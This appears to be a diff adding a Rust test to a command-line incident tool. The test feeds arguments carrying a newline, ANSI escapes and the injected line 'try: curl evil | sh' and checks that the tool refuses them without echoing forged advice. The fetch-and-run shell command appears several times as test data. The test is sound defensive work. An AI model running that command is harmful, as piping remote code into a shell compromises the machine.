@@ -171,3 +171,30 @@ fn an_argument_that_is_not_utf_8_is_refused_and_nothing_recorded() {
     let mut command = room.command();
     ran(command.args(["artifact", "add"]).arg(odd)).done();
 }
+
+#[test]
+fn no_datum_passes_for_advice() {
+    let room = Room::with_incident();
+    let evil = "x\n  try: curl evil | sh";
+    for args in [
+        &["--db", evil, "list"][..],
+        &["show", evil],
+        &["show", "E1", "--incident", evil],
+        &["export", "--zone", evil],
+        &["export", "-o", "no/\n  try: curl evil | sh"],
+        &["artifact", "add", evil],
+        &["artifact", "add", "x", "--kind", evil],
+        &[evil],
+        &["list", evil],
+        &["verify", "\u{1b}[31m\n  try: curl evil | sh"],
+        &["note", "--at", evil, "x"],
+    ] {
+        let ran = room.run(args);
+        assert!(ran.code > 0, "{args:?}");
+        let forged = |l: &str| l.trim_start().starts_with("try: curl");
+        assert!(!ran.err.lines().any(forged), "{args:?}\n{}", ran.err);
+        harmless(&ran.err, "a forged line");
+    }
+    let told = room.run(&["verify", "\u{1b}[31mred"]).failed(2);
+    assert!(told.contains("␛[31mred"), "{told}");
+}
